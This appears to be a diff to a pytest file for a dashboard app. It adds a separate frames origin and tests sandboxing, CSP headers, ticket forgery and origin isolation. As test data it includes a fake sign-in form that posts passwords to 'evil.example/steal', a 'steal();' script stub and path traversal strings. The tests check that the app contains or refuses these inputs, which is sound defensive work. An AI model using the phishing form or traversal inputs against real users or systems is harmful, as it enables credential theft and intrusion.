@@ -1,4 +1,9 @@
-"""Frames: tickets, the files they serve, their headers and who may get one."""
+"""Frames: the frames origin, tickets, the files they serve, their headers and who may
+get one.
+
+The app's settings are the defaults: the app is ``http://127.0.0.1:8000`` and the
+frames origin ``http://127.0.0.1:8001``. The test client tells them apart as a browser
+does, by the URL's host and port (``http://testserver`` is the app)."""
 
 from __future__ import annotations
 
@@ -7,23 +12,29 @@ import re
 import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cryptography.fernet import Fernet
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 from pydantic import ValidationError
+from sqlalchemy import event
+from sqlalchemy.orm import Session
 
 from tests.api.test_dashboards import WIDGET_SCHEMA, World, make_module
 from tests.conftest import Account
 from visualbox.api import frames as frames_api
+from visualbox.app import create_app
 from visualbox.db.tables.accounts import User
 from visualbox.db.tables.modules import Module
-from visualbox.errors import NotFound
-from visualbox.services import dashboards, frames, modules, registry
+from visualbox.errors import NotFound, Unavailable
+from visualbox.services import blobs, dashboards, frames, modules, registry
 from visualbox.services.secrets import SecretBox
-from visualbox.settings import FrameSettings
+from visualbox.settings import FrameSettings, ServerSettings, Settings
 
+APP = "http://127.0.0.1:8000"
+FRAMES = "http://127.0.0.1:8001"
 INDEX = b"<!DOCTYPE html>\n<html lang='en'><head><title>W</title></head><body>v1</body></html>"
 SDK_TAG = b'<script src="/frames/sdk.js?v='
 
@@ -44,12 +55,12 @@ def registry_frame(client: TestClient, module_id: str, version: str = "latest") 
     response = client.get(f"/api/registry/modules/{module_id}/versions/{version}/frame")
     assert response.status_code == 200, response.text
     url: str = response.json()["url"]
-    assert re.fullmatch(r"/frames/[A-Za-z0-9_-]{40,}/", url), url
+    assert re.fullmatch(rf"{FRAMES}/frames/[A-Za-z0-9_-]{{40,}}/", url), url
     return url
 
 
 def ticket_of(url: str) -> str:
-    return url.split("/")[2]
+    return url.removeprefix(FRAMES).split("/")[2]
 
 
 def box_of(app: FastAPI) -> SecretBox:
@@ -80,7 +91,7 @@ def test_a_frame_serves_the_version_with_the_sdk_first_and_strict_headers(
     for directive in (
         "default-src 'none'",
         "connect-src 'none'",
-        "frame-ancestors 'self'",
+        f"frame-ancestors {APP}",
         "base-uri 'none'",
         "form-action 'none'",
     ):
@@ -105,11 +116,11 @@ def test_a_frame_serves_the_version_with_the_sdk_first_and_strict_headers(
     assert client.get(url + "missing.js").status_code == 404
     assert client.get(url + "js/../../x").status_code == 404
     redirect = client.get(url.rstrip("/"), follow_redirects=False)
-    assert redirect.status_code == 308 and redirect.headers["location"] == url
+    assert redirect.status_code == 308 and FRAMES + redirect.headers["location"] == url
 
 
 def test_the_sdk_is_served_as_javascript(client: TestClient) -> None:
-    sdk = client.get("/frames/sdk.js")
+    sdk = client.get(f"{FRAMES}/frames/sdk.js")
     assert sdk.status_code == 200
     assert sdk.headers["content-type"] == "text/javascript; charset=utf-8"
     assert b"window.visualbox = visualbox" in sdk.content
@@ -121,7 +132,7 @@ def test_bad_tickets_answer_404(
 ) -> None:
     module_id = widget(app, make_account(), {"index.html": INDEX}, publish="1.0.0")
     ticket = ticket_of(registry_frame(client, module_id))
-    assert client.get(f"/frames/{ticket}/").status_code == 200
+    assert client.get(f"{FRAMES}/frames/{ticket}/").status_code == 200
     middle = len(ticket) // 2
     flipped = ticket[:middle] + ("A" if ticket[middle] != "A" else "B") + ticket[middle + 1 :]
     box = box_of(app)
@@ -148,12 +159,12 @@ def test_bad_tickets_answer_404(
         not_a_ticket.rstrip("="),
         wrong_hash,
     ):
-        page = client.get(f"/frames/{bad}/")  # a page: a message the frame can show
+        page = client.get(f"{FRAMES}/frames/{bad}/")  # a page: a message the frame can show
         assert page.status_code == 404, bad
         assert page.headers["content-type"] == "text/html; charset=utf-8"
         assert b"No such frame" in page.content and b"<script" not in page.content
         assert page.headers["content-security-policy"].startswith("sandbox allow-scripts;")
-        file = client.get(f"/frames/{bad}/app.js")  # any other file: the JSON error
+        file = client.get(f"{FRAMES}/frames/{bad}/app.js")  # any other file: the JSON error
         assert file.status_code == 404 and file.json()["error"]["code"] == "not_found"
     with pytest.raises(NotFound):
         frames.open_ticket(box, ticket, now=time.time() + 14 * 3600)  # expires later
@@ -259,14 +270,14 @@ def test_a_module_that_is_not_a_widget_has_no_frame(
     with app.state.db.session() as db:
         owner = db.get(User, world.owner.id)
         row = frames.dashboard_frames(
-            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"])
+            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"]), FRAMES
         )
         assert row["w1"] is not None
         module = db.get(Module, world.widget)
         module.kind = "integration"  # no longer a widget: no frame, no file
         db.commit()
         row = frames.dashboard_frames(
-            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"])
+            db, box_of(app), dashboards.get_dashboard(db, owner, dashboard["id"]), FRAMES
         )
         assert row == {"w1": None}
 
@@ -277,13 +288,13 @@ def test_libraries_are_served_from_the_package(
     (tmp_path / "uplot").mkdir()
     (tmp_path / "uplot" / "uPlot.min.js").write_bytes(b"var uPlot=1;")
     monkeypatch.setattr(frames_api, "LIB_DIR", tmp_path)
-    lib = client.get("/frames/lib/uplot/uPlot.min.js")
+    lib = client.get(f"{FRAMES}/frames/lib/uplot/uPlot.min.js")
     assert lib.status_code == 200 and lib.content == b"var uPlot=1;"
     assert lib.headers["content-type"].startswith("text/javascript")
     assert lib.headers["cross-origin-resource-policy"] == "cross-origin"
     assert lib.headers["access-control-allow-origin"] == "*"
     for missing in ("nope.js", "uplot", "..%2Fsecret", "uplot/../../x"):
-        assert client.get(f"/frames/lib/{missing}").status_code == 404, missing
+        assert client.get(f"{FRAMES}/frames/lib/{missing}").status_code == 404, missing
 
 
 @pytest.mark.parametrize(
@@ -343,3 +354,164 @@ def test_image_origins_the_operator_allows_join_the_frame_policy(
 def test_image_origins_must_be_plain_origins(origin: str) -> None:
     with pytest.raises(ValidationError, match="is not an origin"):
         FrameSettings(img_sources=[origin])
+
+
+# -- the frames origin ------------------------------------------------------------------
+
+PHISHING = (
+    b"<!doctype html><title>Sign in to VisualBox</title>"
+    b"<form action='https://evil.example/steal'><input name=password type=password></form>"
+)
+
+
+def test_html_module_files_are_served_by_the_frames_origin_only(
+    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
+) -> None:
+    """A published HTML file (a fake sign-in page, say) is never a page of the app's
+    origin: it answers there with a redirect, and the frames origin serves it in a
+    sandbox that only the app may frame. Scripts and stylesheets are plain text there."""
+    files = {"index.html": INDEX, "login.html": PHISHING, "js/app.js": b"steal();"}
+    module_id = widget(app, make_account(), files, publish="1.0.0")
+    on_app = f"/api/registry/modules/{module_id}/versions/1.0.0/files/login.html"
+    answer = client.get(on_app, follow_redirects=False)
+    assert answer.status_code == 307
+    assert "text/html" not in answer.headers.get("content-type", "")
+    assert b"password" not in answer.content
+    location = answer.headers["location"]
+    assert location == f"{FRAMES}/registry/modules/{module_id}/versions/1.0.0/files/login.html"
+
+    page = client.get(location)
+    assert page.status_code == 200 and page.content == PHISHING
+    assert page.headers["content-type"] == "text/html; charset=utf-8"
+    policy = page.headers["content-security-policy"]
+    assert policy.startswith("sandbox allow-scripts;") and "allow-same-origin" not in policy
+    assert f"frame-ancestors {APP};" in policy and "connect-src 'none'" in policy
+    assert page.headers["x-content-type-options"] == "nosniff"
+
+    script = client.get(f"/api/registry/modules/{module_id}/versions/1.0.0/files/js/app.js")
+    assert script.status_code == 200 and script.content == b"steal();"
+    assert script.headers["content-type"] == "text/plain; charset=utf-8"  # never runnable
+    assert script.headers["x-content-type-options"] == "nosniff"
+    missing = f"{FRAMES}/registry/modules/{module_id}/versions/1.0.0/files/nope.html"
+    assert client.get(missing).status_code == 404
+
+
+def test_each_origin_serves_only_its_own_paths(
+    app: FastAPI, client: TestClient, make_account: Callable[..., Account]
+) -> None:
+    module_id = widget(app, make_account(), {"index.html": INDEX}, publish="1.0.0")
+    url = registry_frame(client, module_id)
+    path = url.removeprefix(FRAMES)
+    assert client.get(url).status_code == 200
+    # The app's origin (any host but the frames origin's) has no frame or SDK to give.
+    for other in ("http://testserver", APP, "http://localhost:8001", "http://127.0.0.1:8002"):
+        for frame_path in (path, "/frames/sdk.js", "/frames/lib/echarts.min.js"):
+            answer = client.get(other + frame_path)
+            assert answer.status_code == 404, other + frame_path
+            assert answer.headers["content-type"] == "application/json"
+    # The frames origin has nothing but frames and module files: no API, no web app.
+    for other_path in ("/api/health", "/api/auth/me", "/", "/explore", "/api/docs"):
+        answer = client.get(FRAMES + other_path)
+        assert answer.status_code == 404, other_path
+        assert "text/html" not in answer.headers["content-type"]
+    assert client.get(f"{FRAMES}/frames/sdk.js", headers={"host": "127.0.0.1:8001"}).is_success
+
+
+def test_a_frames_origin_that_is_the_apps_own_is_refused(tmp_path: Path) -> None:
+    for origin, reason in (("http://127.0.0.1:8000", "differ"), ("https://f.example", "http")):
+        settings = Settings(
+            data_dir=tmp_path,
+            server=ServerSettings(port=8000),
+            frames=FrameSettings(origin=origin),
+        )
+        with pytest.raises(Unavailable) as info:
+            create_app(settings)
+        [field] = info.value.fields
+        assert field.field == "VISUALBOX_FRAMES__ORIGIN" and reason in field.reason
+    assert Settings(data_dir=tmp_path).frames_origin == "http://127.0.0.1:8001"
+    assert (
+        Settings(
+            data_dir=tmp_path, frames=FrameSettings(origin="https://f.example.org/")
+        ).frames_origin
+        == "https://f.example.org"
+    )
+    with pytest.raises(ValidationError, match="is not an origin"):
+        FrameSettings(origin="https://f.example.org/path")
+
+
+def test_an_anonymous_working_copy_frame_request_reads_one_file_at_most(
+    world: World, client: TestClient, app: FastAPI, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A public dashboard shows its owner's working copy: every visitor holds a ticket
+    to it. Neither the public view nor a request for one of its files may load the whole
+    working copy (up to 20 MB): only the file asked for is read from the database."""
+    big = {f"data/{n}.bin": bytes([n]) * (4 * 1024 * 1024) for n in range(4)}
+    draft = widget(app, world.owner, {"index.html": b"<p>draft</p>", **big}, publish=None)
+    content = world.content()
+    content["widgets"][0].update(module_id=draft, version="working", config={})
+    dashboard = world.owner.http.post("/api/dashboards", json=content).json()
+    shared = world.owner.http.post(
+        f"/api/dashboards/{dashboard['id']}/sharing", json={"public": True}
+    ).json()
+
+    loaded: list[int] = []  # bytes of file content each read of the blobs table returned
+    real_get_blob, real_get_blobs = blobs.get_blob, blobs.get_blobs
+
+    def get_blob(db: Session, sha: str) -> bytes:
+        data = real_get_blob(db, sha)
+        loaded.append(len(data))
+        return data
+
+    def get_blobs(db: Session, shas: set[str]) -> dict[str, bytes]:
+        found = real_get_blobs(db, shas)
+        loaded.append(sum(len(data) for data in found.values()))
+        return found
+
+    monkeypatch.setattr(blobs, "get_blob", get_blob)
+    monkeypatch.setattr(blobs, "get_blobs", get_blobs)
+
+    view = client.get(f"/api/public/dashboards/{shared['token']}")
+    url = view.json()["widgets"][0]["frame"]
+    assert sum(loaded) == 0  # issuing the ticket read no file
+    for missing in ("nope.js", "data/nope.bin", "x/y/z.css"):
+        assert client.get(url + missing).status_code == 404
+    assert sum(loaded) == 0  # a file that is not there reads nothing
+    assert client.get(url).content.endswith(b"<p>draft</p>")
+    assert client.get(url + "data/2.bin").content == big["data/2.bin"]
+    assert loaded == [len(b"<p>draft</p>"), 4 * 1024 * 1024]  # exactly the two files
+    assert url.startswith(f"{FRAMES}/frames/")
+
+    # A bad ticket is refused before the database is asked anything.
+    ticket = ticket_of(url)
+    statements: list[str] = []
+
+    def record(*args: Any) -> None:
+        statements.append(str(args[2]))
+
+    engine = app.state.db.engine
+    event.listen(engine, "before_cursor_execute", record)
+    try:
+        forged = ticket[:-6] + ("AAAAAA" if not ticket.endswith("AAAAAA") else "BBBBBB")
+        assert client.get(f"{FRAMES}/frames/{forged}/data/1.bin").status_code == 404
+    finally:
+        event.remove(engine, "before_cursor_execute", record)
+    assert statements == [] and sum(loaded) == len(b"<p>draft</p>") + 4 * 1024 * 1024
+
+
+def test_the_frames_origin_may_be_a_host_name_of_its_own(settings: Settings) -> None:
+    """Behind a proxy: both names reach one port and the Host header tells them apart."""
+    settings.server.public_url = "http://dash.test"
+    settings.frames.origin = "http://frames.test"
+    app = create_app(settings)
+    try:
+        with TestClient(app, base_url="http://dash.test") as client:
+            for same in ("http://frames.test", "http://FRAMES.test:80"):
+                assert client.get(f"{same}/frames/sdk.js").status_code == 200, same
+            for other in ("http://dash.test", "http://frames.test:8080", "http://frames.test.x"):
+                assert client.get(f"{other}/frames/sdk.js").status_code == 404, other
+            policy = client.get("/").headers["content-security-policy"]
+            assert "frame-src http://frames.test;" in policy
+            sdk = client.get("http://frames.test/frames/sdk.js")
+            assert "frame-ancestors http://dash.test;" in sdk.headers["content-security-policy"]
+    finally:
+        app.state.db.dispose()
